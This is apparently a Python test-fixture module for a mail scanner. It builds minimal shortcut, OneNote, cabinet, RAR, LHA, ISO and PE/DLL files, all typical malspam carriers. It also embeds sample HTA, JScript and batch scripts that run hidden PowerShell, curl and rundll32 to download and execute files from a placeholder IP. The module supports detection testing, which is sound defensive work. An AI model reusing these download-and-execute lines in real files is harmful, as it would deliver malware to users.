"""Deterministic payload files for tests: shortcuts, OneNote sections, cabinets, RAR and LHA
archives, PE stubs.

Each builder writes the smallest structure the format's specification ([MS-SHLLINK],
[MS-ONESTORE], [MS-CAB], PE/COFF) allows and that the parsers mailcheck uses accept.
Nothing here is executable in any meaningful way: the PE stub has no sections and no code.
"""

from __future__ import annotations

import io
import struct
import zlib

# --- [MS-SHLLINK] shortcuts ------------------------------------------------------------------

_LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")
_HAS_LINK_INFO = 0x02
_HAS_NAME = 0x04
_HAS_RELATIVE_PATH = 0x08
_HAS_WORKING_DIR = 0x10
_HAS_ARGUMENTS = 0x20
_HAS_ICON_LOCATION = 0x40
_IS_UNICODE = 0x80
_FILETIME_2022 = 132_903_936_000_000_000  # 2022-02-27, fixed so output is stable


def _link_info(local_base_path: str) -> bytes:
    """A LinkInfo with a VolumeID (fixed disk) and a local base path."""
    volume = struct.pack("<IIII", 0x11, 3, 0x1234ABCD, 0x10) + b"\x00"
    header_size = 0x1C
    volume_at = header_size
    path_at = volume_at + len(volume)
    path = local_base_path.encode("cp1252") + b"\x00"
    suffix_at = path_at + len(path)
    body = volume + path + b"\x00"
    size = header_size + len(body)
    return struct.pack("<IIIIIII", size, header_size, 1, volume_at, path_at, 0, suffix_at) + body


def _string(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def build_lnk(
    *,
    target: str = "",
    arguments: str = "",
    working_dir: str = "",
    icon: str = "",
    description: str = "",
    relative_path: str = "",
    show_command: int = 1,
    appended: bytes = b"",
) -> bytes:
    """A Unicode shell link; `target` becomes the LinkInfo local base path."""
    flags = _IS_UNICODE
    strings = b""
    for flag, text in (
        (_HAS_NAME, description),
        (_HAS_RELATIVE_PATH, relative_path),
        (_HAS_WORKING_DIR, working_dir),
        (_HAS_ARGUMENTS, arguments),
        (_HAS_ICON_LOCATION, icon),
    ):
        if text:
            flags |= flag
            strings += _string(text)
    info = b""
    if target:
        flags |= _HAS_LINK_INFO
        info = _link_info(target)
    times = struct.pack("<QQQ", _FILETIME_2022, _FILETIME_2022, _FILETIME_2022)
    header = (
        struct.pack("<I", 0x4C)
        + _LNK_CLSID
        + struct.pack("<II", flags, 0x20)
        + times
        + struct.pack("<IiIHHII", 0, 0, show_command, 0, 0, 0, 0)
    )
    assert len(header) == 0x4C
    return header + info + strings + struct.pack("<I", 0) + appended


# --- PE stub ---------------------------------------------------------------------------------


def build_pe_stub() -> bytes:
    """'MZ', e_lfanew -> 'PE\\0\\0' and a COFF header with no sections: a PE by its magic."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0, 0x0102)
    return bytes(dos) + b"PE\x00\x00" + coff


def build_dll(exports: tuple[str, ...] = ("xlAutoOpen",), dll_name: str = "addin.xll") -> bytes:
    """A 32-bit PE DLL with one section holding an export directory that names `exports`,
    each pointing at a `ret`: what Excel loads as an add-in (XLL) when it exports xlAutoOpen."""
    rva, raw_at, align = 0x1000, 0x200, 0x200
    count = len(exports)
    functions = rva + 40  # export directory, then the arrays and strings
    names = functions + 4 * count
    ordinals = names + 4 * count
    strings = ordinals + 2 * count
    text = dll_name.encode("ascii") + b"\x00"
    name_rvas = []
    for export in exports:
        name_rvas.append(strings + len(text))
        text += export.encode("ascii") + b"\x00"
    code = strings + len(text)
    directory = struct.pack(
        "<IIHHIIIIIII", 0, 0x6500_0000, 0, 0, strings, 1, count, count, functions, names, ordinals
    )
    body = (
        directory
        + struct.pack(f"<{count}I", *([code] * count))
        + struct.pack(f"<{count}I", *name_rvas)
        + struct.pack(f"<{count}H", *range(count))
        + text
        + b"\xc3"
    )
    size = len(body)
    body = body.ljust(-(-size // align) * align, b"\x00")
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0x6500_0000, 0, 0, 0xE0, 0x2102)  # DLL, 32-bit
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x10B, 14, 0, len(body), 0, 0, 0, rva, rva, 0x1000_0000, 0x1000, align,
        6, 0, 0, 0, 6, 0, 0, rva + 0x1000, raw_at, 0, 2, 0x0140,
        0x10_0000, 0x1000, 0x10_0000, 0x1000, 0, 16,
    )  # fmt: skip
    directories = struct.pack("<II", rva, size) + bytes(15 * 8)  # only the export table
    section = struct.pack(
        "<8sIIIIIIHHI", b".edata", size, rva, len(body), raw_at, 0, 0, 0, 0, 0x6000_0020
    )
    headers = bytes(dos) + b"PE\x00\x00" + coff + optional + directories + section
    return headers.ljust(raw_at, b"\x00") + body


# --- [MS-ONESTORE] sections ------------------------------------------------------------------

# GUIDs in their on-disk (little-endian) layout.
ONE_SECTION_GUID = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
FILE_DATA_HEADER = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FILE_DATA_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
_ONE_HEADER_SIZE = 1024


def file_data_store_object(data: bytes) -> bytes:
    """guidHeader, cbLength, unused, reserved, FileData padded to 8 bytes, guidFooter."""
    padding = b"\x00" * (-len(data) % 8)
    return (
        FILE_DATA_HEADER + struct.pack("<QIQ", len(data), 0, 0) + data + padding + FILE_DATA_FOOTER
    )


def build_one(*files: bytes) -> bytes:
    """A OneNote-shaped section: the section header GUID, filler, one object per file."""
    header = ONE_SECTION_GUID + bytes(_ONE_HEADER_SIZE - len(ONE_SECTION_GUID))
    return header + b"".join(file_data_store_object(f) for f in files) + bytes(64)


# --- [MS-CAB] cabinets (.onepkg) -------------------------------------------------------------

_MSZIP_BLOCK = 32 * 1024
COMPRESSION = {"none": 0, "mszip": 1, "lzx": 0x1203}


def _cab_blocks(stream: bytes, compression: str) -> list[tuple[bytes, int]]:
    blocks: list[tuple[bytes, int]] = []
    for start in range(0, len(stream), _MSZIP_BLOCK):
        chunk = stream[start : start + _MSZIP_BLOCK]
        if compression == "mszip":
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            blocks.append((b"CK" + packer.compress(chunk) + packer.flush(), len(chunk)))
        else:  # stored, or an LZX folder whose blocks mailcheck must not pretend to read
            blocks.append((chunk, len(chunk)))
    return blocks


def build_cab(members: list[tuple[str, bytes]], compression: str = "mszip") -> bytes:
    """A one-folder cabinet of `members`; `compression` is none, mszip or lzx (label only)."""
    stream = b"".join(data for _name, data in members)
    blocks = _cab_blocks(stream, compression)
    entries = b""
    offset = 0
    for name, data in members:
        entries += struct.pack("<IIHHHH", len(data), offset, 0, 0x5421, 0x4800, 0x20)
        entries += name.encode("ascii") + b"\x00"
        offset += len(data)
    header_size, folder_size = 36, 8
    files_at = header_size + folder_size
    data_at = files_at + len(entries)
    body = b"".join(struct.pack("<IHH", 0, len(b), n) + b for b, n in blocks)
    total = data_at + len(body)
    header = b"MSCF" + struct.pack(
        "<IIIIIBBHHHHH", 0, total, 0, files_at, 0, 3, 1, 1, len(members), 0, 0x4D43, 0
    )
    folder = struct.pack("<IHH", data_at, len(blocks), COMPRESSION[compression])
    return header + folder + entries + body


def _rar_block(kind: int, flags: int, body: bytes) -> bytes:
    """A RAR 4 block: CRC16 (low half of CRC32 over the rest), type, flags, size, body."""
    rest = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
    return struct.pack("<H", zlib.crc32(rest) & 0xFFFF) + rest


def build_rar(members: list[tuple[str, bytes]]) -> bytes:
    """A RAR 4 archive with stored (method 0x30) members, as RAR 2.9+ writes with -m0."""
    out = b"Rar!\x1a\x07\x00" + _rar_block(0x73, 0, bytes(6))
    for name, data in members:
        raw = name.encode("ascii")
        head = struct.pack(
            "<IIBIIBBHI",
            len(data),
            len(data),
            2,
            zlib.crc32(data),
            0x5421_4800,
            20,
            0x30,
            len(raw),
            0x20,
        )
        out += _rar_block(0x74, 0x8000, head + raw) + data
    return out + _rar_block(0x7B, 0x4000, b"")


def _crc16(data: bytes) -> int:
    """CRC-16/ARC, the checksum LHA keeps of each member."""
    crc = 0
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def build_lzh(members: list[tuple[str, bytes]]) -> bytes:
    """An LHA archive of stored (-lh0-) members with level-0 headers."""
    out = b""
    for name, data in members:
        raw = name.encode("ascii")
        head = b"-lh0-" + struct.pack(
            "<IIIBBB", len(data), len(data), 0x5421_4800, 0x20, 0, len(raw)
        )
        head += raw + struct.pack("<H", _crc16(data))
        out += bytes((len(head), sum(head) & 0xFF)) + head + data
    return out + b"\x00"


def build_xar(members: list[tuple[str, bytes]]) -> bytes:
    """A XAR archive (macOS packages) written by the system's libarchive."""
    import libarchive

    out: list[bytes] = []

    def write(chunk: bytes) -> int:
        out.append(bytes(chunk))
        return len(chunk)

    with libarchive.custom_writer(write, "xar") as archive:
        for name, data in members:
            archive.add_file_from_memory(name, len(data), data)
    return b"".join(out)


# --- disk images ----------------------------------------------------------------------------


def build_iso(members: list[tuple[str, bytes]]) -> bytes:
    """An ISO 9660 image with Joliet names, as malspam used to carry shortcuts and programs.

    pycdlib stamps the current time into the volume descriptor, so the bytes differ from run
    to run; the files inside do not.
    """
    import pycdlib

    image = pycdlib.PyCdlib()
    image.new(interchange_level=3, joliet=3, vol_ident="INVOICE")
    for index, (name, data) in enumerate(members):
        image.add_fp(io.BytesIO(data), len(data), f"/F{index}.;1", joliet_path=f"/{name}")
    out = io.BytesIO()
    image.write_fp(out)
    image.close()
    return out.getvalue()


# --- scripts ---------------------------------------------------------------------------------

HTA = (
    b'<html><head><hta:application id="x" windowstate="minimize"/>\r\n'
    b'<script language="VBScript">\r\n'
    b'Set s = CreateObject("WScript.Shell")\r\n'
    b's.Run "powershell -w hidden -c iwr hxxp://203.0.113.7/a -o a.exe", 0\r\n'
    b"window.close\r\n</script></head></html>\r\n"
)
JSCRIPT = (
    b'var sh = new ActiveXObject("WScript.Shell");\r\n'
    b'sh.Run("cmd /c curl -o %TEMP%\\\\a.dll hxxp://203.0.113.7/a '
    b'&& rundll32 %TEMP%\\\\a.dll,R", 0);\r\n'
)
BATCH = b"@echo off\r\ncmd /c start /min powershell -w hidden -c calc\r\n"
NOTE_ABOUT_POWERSHELL = (
    b"Hi team,\r\n\r\nthe training on PowerShell scripting moved to Thursday.\r\n"
    b"Bring a laptop with powershell 7 installed.\r\n"
)
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
